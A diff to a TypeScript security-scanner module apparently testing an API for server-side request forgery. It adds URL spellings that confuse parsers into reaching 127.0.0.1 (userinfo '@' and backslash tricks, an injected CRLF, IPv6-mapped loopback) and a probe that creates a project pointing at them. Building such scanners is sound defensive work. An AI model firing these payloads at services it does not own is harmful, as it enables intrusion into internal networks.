@@ -15,6 +15,16 @@ const HOSTS = [
   '0xa9fea9fe',
 ];
 
+/** Spellings that one parser reads as public, and another as inside. */
+const spelled = (port: number): readonly string[] => [
+  `https://1.1.1.1\\@127.0.0.1:${port}/x`,
+  `https://1.1.1.1@127.0.0.1:${port}/x`,
+  `https://127.0.0.1:${port}/x#@1.1.1.1`,
+  `https://1.1.1.1\r\n@127.0.0.1:${port}/x`,
+  `https://localhost.:${port}/x`,
+  `https://[::ffff:127.0.0.1]:${port}/x`,
+];
+
 export const addresses: Attack = {
   name: 'addresses',
   async run({ target, of, int, call, found }) {
@@ -36,6 +46,9 @@ export const addresses: Attack = {
         ],
       ] as const);
       const answer = await call(method, path, { json });
+      const repository = of(spelled(target.port));
+      const made = await call('POST', '/v1/projects', { json: { name: 'Inside', kind: 'git', repository } });
+      if (made?.status === 201) found(`a project at ${repository} was created`);
       if (path === '/api/models' && answer?.status === 201) found(`a model at ${url} was connected`);
     }
   },
